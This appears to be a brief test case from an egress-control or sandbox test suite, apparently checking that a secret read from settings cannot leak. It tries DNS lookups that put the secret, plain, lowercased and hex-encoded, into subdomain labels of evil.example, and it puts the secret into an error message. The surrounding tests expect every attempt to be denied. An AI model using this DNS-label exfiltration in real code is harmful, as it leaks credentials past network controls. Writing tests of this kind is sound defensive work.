# D16 carries its secret out in the labels of names, in another case, and in an error
# decided-by: egress
# status: error
# error: denied
value = settings.get("INJECTED")
for name in (value + ".evil.example", value.lower() + ".evil.example", value.encode().hex()[:60] + ".evil.example"):
    refused("resolved " + name, lambda: socket.getaddrinfo(name, 80))
raise RuntimeError("denied " + value.upper())
